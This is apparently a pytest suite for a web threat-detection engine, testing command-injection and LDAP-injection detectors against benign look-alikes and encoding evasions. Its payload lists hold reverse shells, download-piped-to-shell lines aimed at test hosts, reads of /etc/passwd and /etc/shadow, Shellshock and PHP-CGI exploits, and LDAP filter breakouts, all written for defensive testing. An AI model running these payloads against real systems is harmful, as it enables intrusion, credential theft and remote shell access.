"""Command injection and LDAP injection: the shell and filter grammar signals, their benign look-alikes,
overlong UTF-8 as evasion evidence, and the classes through the threat engine (Protect resets, Monitor
alerts, a disabled class stays silent). Every payload here was written for these tests."""

from __future__ import annotations

import base64
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.verdict import WorkerVerdict
from threats import catalogue as C
from workers.detect import ldap, shell
from workers.detect.decode import overlong_escapes, percent_decode, variants
from workers.detect.injection import (
    check_request,
    command_free,
    command_value,
    encoded_text,
    ldap_free,
    ldap_value,
    line_free,
    shell_free,
)

from .test_engine import CLIENT, DB, WEB, Lab, http_flow


def threats_of(uri: str, body: bytes = b"", ctype: str = "") -> set[str]:
    return {h.threat.name for h in check_request(uri, body, ctype)}


# -- command injection ---------------------------------------------------------------------------------

COMMAND_INJECTIONS = [
    ("198.18.0.7;id", "separator after an address, a command alone"),
    ("198.18.0.7 | whoami", "pipe to a distinct command"),
    ("x && uname -a", "&& and an option"),
    ("; cat /etc/shadow", "a system file read at the value's start"),
    ("$(sleep 7)", "command substitution with a number"),
    ("`id`", "backtick substitution opening the value"),
    ("a\nwget http://198.18.0.9/x.sh -O /tmp/x.sh", "newline, a download"),
    ("1 || ping -c 9 198.18.0.1", "|| after a number, options and an address"),
    ("q;cat${IFS}/etc/passwd", "$IFS as a space"),
    ("q;w'h'o'am'i", "a command name split by quotes"),
    ("file.txt; /bin/sh -i", "an absolute path to a shell"),
    ("x|nc 198.18.0.5 4444 -e /bin/bash", "a reverse shell"),
    ("1&& curl https://evil.test/p | sh", "a download piped to a shell"),
    (";{cat,/etc/hostname}", "a brace list as a command"),
    ("<(cat /etc/group)", "process substitution"),
    ("x & type C:\\Windows\\win.ini", "a Windows file read"),
    ("198.18.0.3 & ipconfig /all", "a Windows tool with a switch"),
    ("abc'; sleep 12 #", "a quote closed, then a delay"),
    ("1;strace -f /tmp/x", "a program outside the lists, an option, after a breakout"),
    ("|echo KQZT$((13+58))", "an echo with arithmetic expansion, to see the command ran"),
    ("198.18.0.7;echo $((6*7))", "the same after an address"),
    (";iwr http://198.18.0.9/s.ps1 -OutFile s.ps1", "PowerShell's download cmdlet"),
    ("x' | powershell -c iex(irm http://198.18.0.9/a)", "PowerShell's download-and-run"),
    # a command line of its own (an application that runs the value)
    ("cat /etc/group", "a command line reading a system file"),
    ("gunzip -c /var/backups/db.gz", "an archive tool with an option and a system path"),
    ("time bash -c id", "a wrapper, then a shell given code"),
    ("${SHELL} -c 'uname -a'", "the user's shell given code"),
    ("/usr/bin/python3 -m http.server 8000", "a program's absolute path with an option"),
    ("Invoke-RestMethod https://198.18.0.9/p.ps1", "a PowerShell cmdlet with a URL"),
    ("ls -la", "a distinct tool with an option"),
    ("ping -c 3 198.18.0.1", "an option's number, then an address"),
    ("& echo %COMPUTERNAME%", "a Windows variable echoed"),
    ("cat</etc/hosts", "a redirection from a system file"),
    ("cat${IFS}/etc/hosts", "a command line with $IFS for its space"),
    # globs and empty expansions standing for a name
    ("cat /etc/gr[o]up", "a bracket glob standing for a system file"),
    ("/???/?at /???/hos?s", "question-mark globs for a program and a file"),
    ("/us[r]/bin/[w]hoami", "bracket globs in a program's path"),
    ("/[e//]tc/host[s]", "slashes inside a bracket, which the shell drops"),
    ("/usr/[a-c]in/id", "a bracket range"),
    ("x;c$@at /etc/hosts", "an empty expansion inside a command name"),
    ("198.18.0.7; c${u}url 198.18.0.9", "an unset variable inside a command name"),
    # Windows batch, bash's own features, server-side includes
    ("for /f \"delims=\" %x in ('whoami') do echo %x", "a cmd.exe FOR loop"),
    ("IF EXIST C:\\boot.ini type C:\\boot.ini", "a cmd.exe IF on a file"),
    ("& if %OS% EQU Windows_NT ver", "a cmd.exe IF comparing a variable"),
    ('IF /I "%name%" NEQ "admin" ECHO denied', "a cmd.exe IF comparing a quoted variable"),
    ("() { :;}; echo; /usr/bin/id", "a function definition opening the value (Shellshock)"),
    ("bash -i >& /dev/tcp/198.18.0.9/4444 0>&1", "a reverse shell through bash's network device"),
    ("printf 'di' | rev | sh", "a pipe into a shell"),
    ('<!--#exec cmd="ls /"-->', "a server-side include running a command"),
    ('<!--#include virtual="/etc/passwd"-->', "a server-side include reading a file"),
    ('"--><!--#echo var="DOCUMENT_ROOT"-->', "a server-side include reading the server's variables"),
    ("<!--#printenv -->", "a server-side include listing the server's environment"),
    ("a);id", "a parenthesised argument closed, then a command alone"),
    ("x|id", "a throwaway argument, then a command alone"),
    ("| dir c:/windows", "a Windows path with a forward slash"),
    # the spellings of an injection tool's tamper scripts
    (";$@ec$@ho${IFS}$((12+30))", "empty expansions opening and splitting a name, $IFS, arithmetic"),
    ("198.18.0.7|''wh''oa''mi", "empty quotes opening and splitting a name"),
    (';""${Q}ca""${Q}t /etc/hosts', "runs of empty quotes and unset variables inside a name"),
    ("x;cat ${PATH%%u*}etc${PATH%%u*}hosts", "a variable cut to a slash"),
    ('x";echo Q`expr 3 + 4`Q', "an arithmetic echo through expr"),
    ("'.system('id').'", "a PHP call that runs a command, after a string is closed"),
    ("{${phpinfo()}}", "PHP's complex syntax calling phpinfo"),
    ("198.18.0.7.print(`echo Q`.`echo $((1+2))`)", "backticks in PHP concatenation, arithmetic"),
    ("guest|env", "env piped to: the environment, secrets and all"),
    ("widget;env;", "env between separators"),
    ("a;exit(md5('probe'));//", "a code statement after a breakout, the rest commented out"),
    ('".die(md5(1));#', "after a closed string, the rest commented out with #"),
    ("../../../../usr/bin/env|", "a program's path piped from (Perl's open)"),
    ("data:;base64,PD9waHAgZWNobyAncHJvYmUnOyA/Pg==", "a data: URL of PHP code"),
    ("data://text/plain,<?php echo 1; ?>", "a data: URL of PHP code, plain"),
    ('".base64_decode("aWQ=")."', "a call spliced into a string by concatenation"),
    ("<?php system('id'); ?>", "a PHP open tag calling system"),
    ("-d allow_url_include=1 -d auto_prepend_file=php://input", "PHP-CGI's arguments (CVE-2012-1823)"),
    (
        "\u00add allow_url_include=1 \u00add auto_prepend_file=php://input",
        "with soft hyphens (CVE-2024-4577)",
    ),
]

BENIGN_SHELL_LOOKALIKES = [
    "Tom & Jerry; cat lovers",
    "<!-- #region helpers --> and <!-- include the footer -->",  # HTML comments, no directive
    "More work needed in this area, though.</li>",  # an HTML end tag is no redirection from a file
    "$(CP) is now used alongside $(RM_F).",  # make's variables: a POSIX shell finds no `CP`
    "owned by $(ID) and $(GID)",
    "Ben & Jerry's; sleep well",
    "rock & roll | id card photo",
    "name|id|email",
    "https://example.com/search?q=a|b&x=1|2",
    "cats | more",
    "the `cat` command prints a file",
    "$(document).ready(function(){ go(); })",
    "$(window).on('load', init)",
    "if (a && hostname) { connect(hostname); }",
    "a { color: red; top: 0; } b { cursor: pointer; }",
    "for (i = 0; i < n; i++) { sleep(1); }",
    "C:\\Program Files\\Tools & Utilities\\setup.exe",
    "D:\\data\\report; final.docx",
    "Skills: Java; Python; Ruby & Go",
    "Hello team,\nid like to ask about the order\nthanks",
    "tired; sleep eight hours",
    "page 2; id card lost",
    "AT&T; host of the show",
    "Q&A | Help | Contact",
    "x=1;y=2;date=today",
    "fish & chips; echo chamber",
    "R&D | ping pong club",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "ip|hostname|port",
    "Cut & curl",
    "name & hostname",
    "col1;passwd;col3",
    "| type | direction | fields |",
    "| SSH | tcp | 22 |",
    "```sh",
    "run `python -m http.server` in the folder",
    "see (`whoami`) in the docs",
    "Paris; rome -based tours",
    "x = 1; y = -z;",
    "AAPL; IEX quotes",  # a stock exchange, not PowerShell's alias
    "total: $((3+4)) dollars",  # arithmetic without a command
    # prose and values that open with a command's name, globs of no system file
    "more info at https://example.com/help",
    "find /r/python on the forum",
    "Find your answer here -> FAQ",
    "date > 2024-01-01",
    "top 10 songs of 2024",
    "python -m pytest",
    "make -j8",
    "docker run -v /var/run/docker.sock:/x img",
    "kubectl get pods -n kube-system",
    "/var/log/app-*.log",
    "/etc/*",
    "/home/*/Documents/report[1].pdf",
    "If exist, please call",
    "if errorlevel is high, retry",
    "If defined by the user, use it",
    "tags: python;docker",
    "BJ | SH",
    "file:///home/alice/report.pdf",
    "stat: 42/100",
    "() => { return 1; }",
    "<!-- comment --> <p>exec summary</p>",
    "see /dev/tcp docs",
    "system (default)",
    "Operating System (OS)",
    "O''Brien",
    "rock'n'roll",
    "$@ is the argument list",
    "x.init(); // start",
    "f(x); // call f",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
    "a|b|",
    "/usr/bin/env python3",
    '"hello" . "world"',
    "-d flag and -s",
    "set up the dev | env vars first",
    "name|env|region",
    "see <?php tags in the docs",
]


@pytest.mark.parametrize(("payload", "why"), COMMAND_INJECTIONS)
def test_command_injection_in_a_query_value(payload: str, why: str) -> None:
    assert "command_injection" in threats_of("/ping?host=" + quote_plus(payload)), why


@pytest.mark.parametrize(("payload", "why"), COMMAND_INJECTIONS)
def test_command_injection_in_form_and_json_bodies(payload: str, why: str) -> None:
    form = ("host=" + quote_plus(payload) + "&n=1").encode()
    assert "command_injection" in threats_of("/ping", form, "application/x-www-form-urlencoded"), why
    body = ('{"host": ' + __import__("json").dumps(payload) + "}").encode()
    assert "command_injection" in threats_of("/ping", body, "application/json"), why


@pytest.mark.parametrize("value", BENIGN_SHELL_LOOKALIKES)
def test_shell_lookalikes_are_not_command_injection(value: str) -> None:
    assert command_value(value) is None
    assert "command_injection" not in threats_of("/s?q=" + quote_plus(value))
    assert "command_injection" not in threats_of("/s", ("q=" + quote_plus(value)).encode(), "")


def test_prose_needs_shell_arguments_where_an_attack_has_them() -> None:
    # the same words: prose after the separator, then a file read
    assert shell.injected("Tom & Jerry; cat lovers") is None
    assert shell.injected("Tom & Jerry; cat /etc/passwd") is not None
    # a field list names `id`; a breakout after a number runs it
    assert shell.injected("name|id") is None
    assert shell.injected("1|id") is not None
    # a Markdown code span vs a substitution glued to the value
    assert shell.injected("the `cat` command") is None
    assert shell.injected("x`cat`") is not None
    assert shell.injected("198.18.0.1 `uname -a`") is not None  # a span after a space, still a command


def test_documentation_of_commands_is_told_from_running_them() -> None:
    # a backtick that closes a code span, or one nothing closes (texinfo's `quote'), opens no substitution
    assert (
        shell.injected(
            "could fail if the image did not contain an `/etc/passwd` file ([#14966](https://x.example/1))"
        )
        is None
    )
    assert shell.injected("`wait -p' now accepts a list of job specifications") is None
    assert shell.injected("a`cat /etc/passwd`") is not None
    # a code span a sentence goes on after, even opening the value
    assert shell.injected("`uname -a` to determine the architecture type.") is None
    assert shell.injected("`uname -a`") is not None
    assert shell.injected("`sleep 5` x") is not None
    # a call that is given no command is a name in text; a method's name is no PHP concatenation
    assert shell.injected("use [`child_process.exec()`][] or `systemd.exec(5)`") is None
    assert shell.injected("';exec('id');//") is not None
    assert shell.injected("'.system('id').'") is not None
    assert shell.injected("{${phpinfo()}}") is not None
    # a capitalised English word opening a sentence; a command's options followed by prose
    assert shell.injected("Make sure the service in > /etc/services is defined") is None
    assert shell.injected("make sure > /etc/services") is not None
    assert shell.injected("grep -P can now use a just-in-time compiler") is None
    assert shell.injected("grep -P root /etc/shadow") is not None
    # a version's digit before `>` is no file descriptor
    assert (
        shell.injected("More info at <https://www.openssl.org/news/vulnerabilities.html#2016-0702>") is None
    )
    assert shell.injected("cat /etc/passwd 2>&1") is not None


def test_command_detail_names_the_separator_and_the_command() -> None:
    hit = command_value("198.18.0.7%3Bwhoami", plus=True)
    assert hit is not None and hit.threat is C.COMMAND_INJECTION
    assert "';'" in hit.detail and "'whoami'" in hit.detail and hit.excerpt == b"198.18.0.7;whoami"


def test_a_base64_or_hex_value_is_decoded_for_the_command_check() -> None:
    # an application that decodes a value before running it
    command = b"198.18.0.7;uname -a"
    for attack in (base64.b64encode(command).decode(), command.hex(), command.hex().upper()):
        hit = command_value(attack)
        assert hit is not None and hit.detail.startswith("encoded "), (attack, hit)
        assert "command_injection" in threats_of("/ping?host=" + quote(attack, safe=""))
    for benign in (b"Hello world, this is fine!", b'{"alg":"HS256","typ":"JWT"}', b"the cat sat on a mat"):
        assert command_value(base64.b64encode(benign).decode()) is None, benign
        assert command_value(benign.hex()) is None, benign
    # random tokens and hashes decode to bytes, not text; short or odd values are not an encoding
    assert encoded_text("q7ZUHe0D2xXcMFsXAgn1b0Rm") is None
    assert encoded_text("d41d8cd98f00b204e9800998ecf8427e") is None  # an MD5
    assert encoded_text("aWQ=") is None  # `id`: too short to be worth the decoding
    assert encoded_text("dW5hbWUgLWE") is None  # not a multiple of 4
    assert encoded_text("3b6964a") is None  # an odd number of hex digits


def test_encoded_separators_are_decoded_first() -> None:
    assert "command_injection" in threats_of("/p?h=198.18.0.7%0Aid")  # newline
    assert "command_injection" in threats_of("/p?h=198.18.0.7%253Bid")  # double-encoded ;
    assert "command_injection" in threats_of("/p?h=x%26%26uname%20-a")  # && inside the value


# -- LDAP injection --------------------------------------------------------------------------------------

LDAP_INJECTIONS = [
    ("*)(uid=*))(|(uid=*", "closes the item, opens a presence test and an OR"),
    ("jdoe)(|(password=*))", "closes the item, opens an OR"),
    ("admin)(&)", "closes the item, appends the absolute true filter"),
    ("*)(cn=*", "closes after a wildcard, opens a presence test"),
    ("x*)(|(objectClass=*)", "every entry by objectClass"),
    ("*))%00", "wildcard then two closes (NUL cut)"),
    ("x)(|(sn=*)(mail=*)", "closes the item, opens an OR of presence tests"),
    ("jdoe)(!(memberOf=cn=staff))", "closes the item, opens a NOT"),
    ("*&", "filter metacharacters only"),
    ("x)(sn~=y", "closes the item, opens an approximate match left open"),
    ("7)(gidNumber<=9", "closes the item, opens an ordering left open"),
    ("ab*cd)(ou>=m)", "a wildcard in the closed item, an ordering opened"),
    ("x)|(mail=*", "an operator joins the closed item and a presence test"),
    ("jdoe)(&", "a composition left for the application to finish"),
    ("nosuchvalue))%00", "closes twice, the rest cut off by a NUL"),
    ("*)%00x", "a wildcard closed, the rest cut off by a NUL"),
]

BENIGN_LDAP_LOOKALIKES = [
    "John (Smith)",
    "f(x)(y=2)",
    "search term*",
    "wild*card",
    "*.example.com",
    "foo* bar*",
    "price (USD)*",
    "(a)(b)(c)",
    "5*(3+4)",
    "C++ (programming language)",
    "footnote (*)",
    "*important*",
    "**bold** and (italic)",
    "rating=*****",
    "file (1).txt",
    "(555) 123-4567",
    "x = (a+b)*(c-d)",
    "(c) 2024 Acme (TM)",
    "(see note 3) (and page 4)",
    "if ((a && b) || !(c)) { run(); }",
    # whole filters sent as values (directory tools do): balanced, they break out of nothing
    "(|(sn=*)(mail=*))",
    "(&(objectClass=person)(cn=Jo*))",
    "(department=Sales)(&(title=Manager)(l=Lyon))",
    "1) apples (qty=2) 2) pears (qty=3)",
    "(foo)|(bar)",
    "smile :) (wink)",
    "the app builds (&(uid=$user)(userPassword=$pass)) from the form",
    "filters such as (objectClass=*) list every entry",
]


@pytest.mark.parametrize(("payload", "why"), LDAP_INJECTIONS)
def test_ldap_injection_in_a_query_value(payload: str, why: str) -> None:
    assert "ldap_injection" in threats_of("/login?user=" + quote(payload, safe="%")), why


@pytest.mark.parametrize(("payload", "why"), LDAP_INJECTIONS)
def test_ldap_injection_in_a_form_body(payload: str, why: str) -> None:
    form = ("user=" + quote(payload, safe="%") + "&pass=x").encode()
    assert "ldap_injection" in threats_of("/login", form, "application/x-www-form-urlencoded"), why


@pytest.mark.parametrize("value", BENIGN_LDAP_LOOKALIKES)
def test_filter_lookalikes_are_not_ldap_injection(value: str) -> None:
    assert ldap_value(value) is None
    assert "ldap_injection" not in threats_of("/s?q=" + quote_plus(value))


def test_ldap_scores_add_up_to_the_threshold() -> None:
    assert ldap.injected("f(x)(y=2)") is None  # closes only what it opened: 0
    assert ldap.injected("f(x)(y=*") is None  # ... nor with a presence test: no close it did not open
    assert ldap.injected("x)(y=*") is not None  # a close it did not open, a presence test: 3 + 2 + 1
    assert ldap.injected("1) apples (qty=2)") is None  # an item it did not open closed, one opened: 2
    assert ldap.injected("1) apples (qty=2") is not None  # ... and left open for the application: 3
    assert ldap.injected("(mail=*)") is None  # a presence test alone: 1
    assert ldap.injected("(mail=*))") is None  # ... and two closes: 2
    detail = ldap.injected("*(|(mail=*))")  # ... and a composition: 4
    assert detail is not None and "composition opened" in detail
    assert ldap.injected("(|(mail=*))") is None  # the same as a whole filter: no breakout


# -- overlong UTF-8 --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("escaped", "char"),
    [("%c0%a7", "'"), ("%C0%AE", "."), ("%c1%bc", "|"), ("%c0%bb", ";"), ("%e0%80%a7", "'"), ("%c0%80", "")],
)
def test_overlong_utf8_is_decoded_as_the_character_it_spells(escaped: str, char: str) -> None:
    assert overlong_escapes("a" + escaped + "b")
    assert variants("a" + escaped + "b")[-1] == f"a{char}b"  # NUL dropped with the other controls


def test_valid_utf8_and_latin1_are_no_overlong() -> None:
    for text in ("caf%c3%a9", "%e2%82%ac", "%c3%a0 la carte", "%e0%a4%b9"):  # é, €, à, ह
        assert not overlong_escapes(text)
    assert percent_decode("%e0%a4%b9") == "\u0939"
    assert percent_decode("%e2%82%ac") == "\u20ac"


def test_overlong_utf8_counts_as_evasion_evidence() -> None:
    # one point short of an injection when sent plainly; the overlong spelling is the missing point
    assert command_value("name%7Cid", plus=True) is None
    hit = command_value("name%c1%bcid", plus=True)
    assert hit is not None and "overlong UTF-8" in hit.detail
    assert ldap_value("1)+apples+(qty%3D2)", plus=True) is None
    hit = ldap_value("1)+apples+(qty%c0%bd2)", plus=True)
    assert hit is not None and "overlong UTF-8" in hit.detail
    assert "sql_injection" in threats_of("/s?q=x%c0%a7%20or%20%c0%a7a%c0%a7=%c0%a7a")


# -- totality --------------------------------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list(";|&`$(){}*=\n '\"/\\-abcdeilmnoprstuwxyz019")), max_size=80))
def test_scorers_are_total_on_their_own_alphabet(text: str) -> None:
    for detail in (shell.injected(text), ldap.injected(text)):
        assert detail is None or (isinstance(detail, str) and detail)
    for hit in check_request("/s?q=" + quote_plus(text)):
        assert hit.threat in (C.SQL_INJECTION, C.XSS, C.COMMAND_INJECTION, C.LDAP_INJECTION)


@given(st.text(max_size=200))
def test_scorers_are_total_on_any_text(text: str) -> None:
    for detail in (shell.injected(text), ldap.injected(text)):
        assert detail is None or (isinstance(detail, str) and detail)
    for hit in (command_value(text, plus=True), ldap_value(text)):
        assert hit is None or len(hit.excerpt) <= C.MAX_FINDING_EXCERPT


# pieces of values: characters escapes are made of, the syntax the checks need, look-alikes that fold
# to it, and a UTF-7 run that decodes to `<;`
_PIECES = [
    *"%0123456789abcdefuABCDEFOSw;|&`$()*\\#x:\n+- /<>~[?{",
    "\uff1b",
    "\uff08",
    "é",
    "+ADwAOw-",
    "&#59;",
]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join), st.booleans())
def test_the_prefilters_pass_every_value_a_decoding_turns_into_syntax(text: str, plus: bool) -> None:
    # a value the raw-text prefilter lets through unchecked has no decoded form the check needs
    forms = variants(text, plus)
    assert not (shell_free(text) and line_free(text)) or not any(shell.needs_check(f) for f in forms), forms
    assert command_free(text) == (shell_free(text) and line_free(text)), text  # its fast path agrees
    assert not ldap_free(text) or not any(ldap.needs_check(f) for f in forms), forms


def test_the_prefilters_skip_plain_and_harmlessly_escaped_values_only() -> None:
    for text in ("widget", "O%27Brien%20pizza", "a+b+c", "page=2", "kiss%2C+sis"):
        assert shell_free(text) and ldap_free(text), text
    for text in (
        "a%3Bid",
        "a%253Bid",
        "a&#59;id",
        "a\u003bid",
        "a\uff1bid",
        "x%c0%bb",
        "%u003b",
        "a;b",
        "x+ADwAOw-id",
    ):
        assert not shell_free(text), text
    for text in ("a%29%28", "a%2A", "a&#40;", "\uff08", "x(y", "*"):
        assert not ldap_free(text), text


# -- through the threat engine ---------------------------------------------------------------------------

CMD_GET = b"GET /ping?host=198.18.0.7%3Bcat%20/etc/passwd HTTP/1.1\r\nHost: web\r\n\r\n"
CMD_POST_BODY = b"host=198.18.0.7+%7C+uname+-a&count=1"
CMD_POST = (
    b"POST /ping HTTP/1.1\r\nHost: web\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    b"Content-Length: %d\r\n\r\n%s" % (len(CMD_POST_BODY), CMD_POST_BODY)
)
LDAP_GET = b"GET /login?user=*)(uid=*))(%7C(uid=* HTTP/1.1\r\nHost: web\r\n\r\n"
BENIGN_TWIN = b"GET /ping?host=Tom+%26+Jerry%3B+cat+lovers&q=John+(Smith)* HTTP/1.1\r\nHost: web\r\n\r\n"


@pytest.mark.parametrize(
    ("request_bytes", "threat", "threat_id"),
    [
        (CMD_GET, "command_injection", 1039),
        (CMD_POST, "command_injection", 1039),
        (LDAP_GET, "ldap_injection", 1040),
    ],
)
def test_new_classes_reset_in_protect(request_bytes: bytes, threat: str, threat_id: int) -> None:
    lab = Lab()
    verdicts = lab.send(http_flow(CLIENT, 42000, WEB, request_bytes))
    assert verdicts[-1] is WorkerVerdict.RESET_FLOW
    [event] = lab.threats(threat)
    assert event["action"] == "reset" and event["group"] == "web" and event["threat_id"] == threat_id
    assert event["severity"] == C.BY_NAME[threat].severity.value


@pytest.mark.parametrize(
    ("request_bytes", "threat"), [(CMD_POST, "command_injection"), (LDAP_GET, "ldap_injection")]
)
def test_new_classes_only_alert_in_monitor(request_bytes: bytes, threat: str) -> None:
    lab = Lab()
    verdicts = lab.send(http_flow(CLIENT, 42001, DB, request_bytes))
    assert WorkerVerdict.RESET_FLOW not in verdicts
    [event] = lab.threats(threat)
    assert event["action"] == "alert" and event["group"] == "db"


def test_benign_twin_passes_in_protect() -> None:
    lab = Lab()
    verdicts = lab.send(http_flow(CLIENT, 42002, WEB, BENIGN_TWIN))
    assert lab.threats() == [] and WorkerVerdict.RESET_FLOW not in verdicts


def test_a_disabled_class_stays_silent() -> None:
    lab = Lab({"default": {"command_injection": {"enabled": False}}})
    verdicts = lab.send(http_flow(CLIENT, 42003, WEB, CMD_GET))
    assert lab.threats() == [] and WorkerVerdict.RESET_FLOW not in verdicts
    lab = Lab({"default": {"ldap_injection": {"enabled": False}}})
    lab.send(http_flow(CLIENT, 42004, WEB, CMD_GET))
    assert [e["name"] for e in lab.threats()] == ["command_injection"]
